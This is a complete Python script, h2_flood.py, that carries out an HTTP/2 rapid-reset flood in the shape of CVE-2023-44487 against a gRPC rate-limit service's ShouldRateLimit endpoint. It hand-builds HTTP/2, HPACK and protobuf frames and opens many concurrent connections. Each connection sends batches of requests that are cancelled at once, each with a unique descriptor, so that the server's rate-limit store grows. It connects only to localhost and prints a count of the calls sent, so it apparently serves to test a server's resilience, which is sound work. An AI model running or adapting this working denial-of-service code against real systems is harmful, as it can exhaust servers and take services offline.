#!/usr/bin/python3
"""h2_flood.py - rapid reset (the shape of CVE-2023-44487) by hand: on
CONNS connections at once, for SECONDS, whole ShouldRateLimit calls
(HEADERS, DATA with END_STREAM) each followed at once by RST_STREAM
(CANCEL), 200 calls to a write, reconnecting whenever the server closes.
Each call has its own descriptor value, so a store that decided them
would keep a key for each.  Prints one line of JSON: the calls sent.

  h2_flood.py PORT SECONDS CONNS
"""
import json
import socket
import struct
import sys
import threading
import time


def frame(ftype, flags, stream, payload):
    return (struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) +
            struct.pack(">I", stream) + payload)


def literal(name, value):
    # HPACK: literal header field without indexing, new name, no Huffman.
    n, v = name.encode(), value.encode()
    return bytes([0x00, len(n)]) + n + bytes([len(v)]) + v


def field(number, value):
    # A length-delimited protobuf field (values under 128 bytes).
    return bytes([number << 3 | 2, len(value)]) + value


BLOCK = b"".join(literal(k, v) for k, v in (
    (":method", "POST"), (":scheme", "http"),
    (":path", "/envoy.service.ratelimit.v3.RateLimitService/"
              "ShouldRateLimit"),
    (":authority", "x"), ("content-type", "application/grpc"),
    ("te", "trailers")))


def message(i):
    # RateLimitRequest{domain "x", descriptors [{entries [{k, v<i>}]}]}
    entry = field(1, b"k") + field(2, b"v%d" % i)
    m = field(1, b"x") + field(2, field(1, entry))
    return bytes([0, 0, 0, 0, len(m)]) + m


def worker(port, stop, sent, lock):
    while time.monotonic() < stop:
        try:
            s = socket.create_connection(("127.0.0.1", port))
        except OSError:
            time.sleep(0.05)
            continue
        try:
            s.settimeout(2)
            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" +
                      frame(4, 0, 0, b""))
            sid = 1
            while time.monotonic() < stop:
                buf = b""
                for _ in range(200):
                    buf += (frame(1, 4, sid, BLOCK) +
                            frame(0, 1, sid, message(sid)) +
                            frame(3, 0, sid, b"\0\0\0\x08"))
                    sid += 2
                s.sendall(buf)
                with lock:
                    sent[0] += 200
                s.setblocking(False)
                try:
                    while s.recv(65536):
                        pass
                except OSError:
                    pass
                s.settimeout(2)
        except OSError:
            pass
        finally:
            s.close()


def main():
    port, secs, conns = int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3])
    stop = time.monotonic() + secs
    sent, lock = [0], threading.Lock()
    ts = [threading.Thread(target=worker, args=(port, stop, sent, lock))
          for _ in range(conns)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    print(json.dumps({"sent": sent[0]}))


if __name__ == "__main__":
    main()
